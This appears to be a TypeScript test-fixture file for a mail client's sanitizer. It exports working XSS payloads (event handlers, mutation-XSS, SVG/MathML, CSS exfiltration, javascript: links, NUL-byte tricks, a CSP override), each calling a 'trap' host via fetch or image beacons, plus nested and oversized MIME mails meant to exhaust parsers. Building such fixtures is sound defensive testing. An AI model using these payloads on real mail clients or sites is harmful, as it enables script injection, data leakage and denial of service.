/**
 * Mail and words made to harm who looks at them. `trap` is where each of them tries to send something. Duty: one way in
 * each, as they are known from the OWASP and PortSwigger lists, mXSS, CSS exfiltration and mail clients' own bugs.
 */

/** HTML bodies, each of which calls the trap if anything of it runs or loads. */
export const hostileHtml = (trap: string): Readonly<Record<string, string>> => {
  const js = `fetch('${trap}/script');new Image().src='${trap}/image';top.document.title='caught';alert(1)`
  return {
    script: `<script>${js}</script><script src="${trap}/a.js"></script><scr<script>ipt>${js}</script>`,
    handlers: `<img src=x onerror="${js}"><body onload="${js}"><details open ontoggle="${js}"><input autofocus onfocus="${js}"><video src=x onerror="${js}"><marquee onstart="${js}">`,
    svg: `<svg onload="${js}"><script>${js}</script><image href="${trap}/svg.png"/><use href="${trap}/u.svg#a"/><animate onbegin="${js}" attributeName=x dur=1s/><foreignObject><iframe src="${trap}/f"></iframe></foreignObject><feImage href="${trap}/fe.png"/></svg>`,
    math: `<math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math>`,
    mutation: `<noscript><p title="</noscript><img src=x onerror='${js}'>"></noscript><style><a id="</style><img src=x onerror='${js}'>"></style><!--><img src=x onerror="${js}">--><xmp><p title="</xmp><img src=x onerror='${js}'>"></xmp><title><a title="</title><img src=x onerror='${js}'>"></title>`,
    frames: `<iframe src="${trap}/frame"></iframe><iframe srcdoc="<script>${js}</script><img src='${trap}/srcdoc'>"></iframe><frameset><frame src="${trap}/fr"></frameset><object data="${trap}/object"></object><embed src="${trap}/embed"><portal src="${trap}/portal"></portal><fencedframe></fencedframe>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><META HTTP-EQUIV='refresh' CONTENT='0; URL=javascript:${js}'><base href="${trap}/"><img src="relative.png"><a href="page">x</a>`,
    links: `<link rel=stylesheet href="${trap}/a.css"><link rel=prefetch href="${trap}/p"><link rel=preconnect href="${trap}"><link rel=dns-prefetch href="${trap}"><link rel=import href="${trap}/i"><link rel=modulepreload href="${trap}/m.js"><link rel=icon href="${trap}/icon"><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${trap}/spec"]}]}</script>`,
    style: `<style>@import "${trap}/import.css";@import url(${trap}/i2.css);@font-face{font-family:f;src:url(${trap}/font)}body{font-family:f;background:url(${trap}/bg);cursor:url(${trap}/cur),auto;list-style-image:url('${trap}/li');border-image:url("${trap}/bi") 1}a::after{content:url(${trap}/after)}input[value^="a"]{background:url(${trap}/a)}@media print{p{background:url(${trap}/print)}}:visited{background:url(${trap}/v)}div{background:image-set("${trap}/set" 1x);mask:url(${trap}/mask#m);filter:url(${trap}/filter#f)}</style><input value="abc"><div style="background:url(${trap}/inline);background-image:u\\72l(${trap}/escaped)">x</div><ul><li>y</li></ul><p>text</p>`,
    media: `<img src="${trap}/img"><img srcset="${trap}/1x 1x, ${trap}/2x 2x"><picture><source srcset="${trap}/pic"><img src="${trap}/img2"></picture><video src="${trap}/video" poster="${trap}/poster" autoplay></video><audio src="${trap}/audio" autoplay></audio><track src="${trap}/track"><table background="${trap}/tb"><td background="${trap}/td"></table><input type=image src="${trap}/input"><body background="${trap}/body"><image src="${trap}/image-element">`,
    unusualUrls: `<img src="//${trap.slice(5).replace(/^\/\//, '')}/scheme-less"><img src="\t${trap}/tab"><img src='&#104;&#116;&#116;&#112;${trap.slice(4)}/entities'><img src="http:/\\${trap.slice(7)}/backslash"><img/src="${trap}/slash"><img src=${trap}/bare>`,
    forms: `<form action="${trap}/form" id=f><input name=a value=b></form><button form=f formaction="${trap}/fa">Go</button><form action="${trap}/auto"><input type=submit autofocus></form><isindex action="${trap}/isindex" type=image>`,
    hrefs: `<a id=js href="javascript:${js}">one</a> <a id=data href="data:text/html,<script>${js}</script>">two</a> <a id=vb href="vbscript:x">three</a> <a id=ping href="#x" ping="${trap}/ping">four</a> <a id=out href="${trap}/link">five</a> <a id=top target=_top href="${trap}/top">six</a> <a id=blank target=_blank href="${trap}/blank">seven</a> <map name=m><area href="javascript:${js}"></map>`,
    unclosed: `<div><img src=x onerror="${js}" <b><svg/onload=${js}//`,
    nul: `<scr\u0000ipt>${js}</scr\u0000ipt><img src=x o\u0000nerror="${js}"><a href="java\u0000script:${js}">x</a>`,
    template: `<template><script>${js}</script></template><slot onslotchange="${js}"></slot><div><template shadowrootmode=open><script>${js}</script><img src="${trap}/shadow"></template></div>`,
    policy: `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${js}</script>`,
  }
} // prettier-ignore

/** Text that becomes markup where somebody forgets to escape. */
export const hostileText = (trap: string): string =>
  `</title></textarea></style></script>'"><script>fetch('${trap}/text')</script><img src=${trap}/t onerror=alert(1)><svg/onload=alert(2)>{{7*7}}\${7*7}&lt;b&gt;javascript:alert(3)`

/** A mail of so many parts in each other; what a parser without a bound takes minutes or its stack for. */
export function nestedMail(depth: number): string {
  const open = Array.from({ length: depth }, (_, n) => `Content-Type: multipart/mixed; boundary="b${n}"\r\n\r\n--b${n}\r\n`)
  return `From: a@example.com\r\nTo: b@example.com\r\nSubject: nested\r\nMIME-Version: 1.0\r\n${open.join('')}Content-Type: text/html\r\n\r\n<p>deep</p>\r\n`
} // prettier-ignore

/** Thousands of headers, a line of megabytes, mails inside mails. */
export function hugeMail(trap: string): string {
  const headers = Array.from({ length: 3000 }, (_, n) => `X-Header-${n}: ${hostileText(trap)}`).join('\r\n')
  const inner = Array.from({ length: 60 }, () => 'Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n').join('')
  return `From: a@example.com\r\nTo: b@example.com\r\nSubject: =?utf-8?B?${Buffer.from(hostileText(trap)).toString('base64')}?=\r\nMIME-Version: 1.0\r\n${headers}\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html; charset="utf-8'><script>"\r\n\r\n<p>${'x'.repeat(3_000_000)}</p>\r\n--x\r\nContent-Type: text/html; name="a\\"><script>.html"\r\nContent-Disposition: attachment; filename*=utf-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.html\r\n\r\n<script>fetch('${trap}/attachment')</script>\r\n--x\r\nContent-Type: image/svg+xml\r\nContent-ID: <pic>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${trap}/svg')"><script>fetch('${trap}/svg2')</script></svg>\r\n--x\r\n${inner}\r\n--x--\r\n`
}
